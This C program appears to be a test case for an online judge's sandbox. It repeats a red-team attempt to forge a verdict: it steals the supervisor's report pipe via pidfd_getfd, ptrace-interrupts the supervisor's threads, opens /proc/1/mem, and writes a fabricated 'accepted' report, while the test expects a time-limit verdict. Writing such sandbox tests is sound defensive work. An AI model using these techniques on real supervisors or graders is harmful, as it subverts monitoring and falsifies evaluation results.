/* Tries to forge its verdict as a red team did: takes the supervisor's report pipe with
 * pidfd_getfd, stops every thread of the supervisor with ptrace, opens its memory, burns 2.6 s
 * of CPU time in children, writes a made-up report of an accepted run to the pipe and exits.
 * The supervisor is out of its reach and judges the CPU time it burned: TLE. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef PTRACE_O_EXITKILL
#define PTRACE_O_EXITKILL (1 << 20)
#endif

static void burn(double seconds) {
	struct timespec start, now;
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &start);
	volatile unsigned long x = 0;
	do {
		for (int i = 0; i < 1000000; i++) x += i;
		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &now);
	} while ((now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
}

int main(void) {
	int pipefd = -1;
	int pidfd = syscall(SYS_pidfd_open, 1, 0);
	if (pidfd >= 0) pipefd = syscall(SYS_pidfd_getfd, pidfd, 3, 0);
	DIR *tasks = opendir("/proc/1/task");
	if (tasks) {
		struct dirent *e;
		while ((e = readdir(tasks)) != NULL) {
			int tid = atoi(e->d_name);
			if (tid <= 0) continue;
			ptrace(PTRACE_SEIZE, tid, 0, PTRACE_O_EXITKILL);
			ptrace(PTRACE_INTERRUPT, tid, 0, 0);
		}
		closedir(tasks);
	}
	int mem = open("/proc/1/mem", O_RDWR);
	if (pipefd < 0) pipefd = open("/proc/1/fd/3", O_WRONLY);
	for (int i = 0; i < 2; i++) {
		if (fork() == 0) {
			burn(1.3);
			_exit(0);
		}
	}
	while (wait(NULL) > 0) {
	}
	const char *forged = "started\n{\"exit_code\":0,\"cpu_us\":1234,\"wall_us\":1500,\"peak_kib\":1024}\n";
	if (pipefd >= 0) write(pipefd, forged, strlen(forged));
	fprintf(stderr, "pidfd %d, pipe %d, mem %d\n", pidfd, pipefd, mem);
	puts("2855");
	return 0;
}
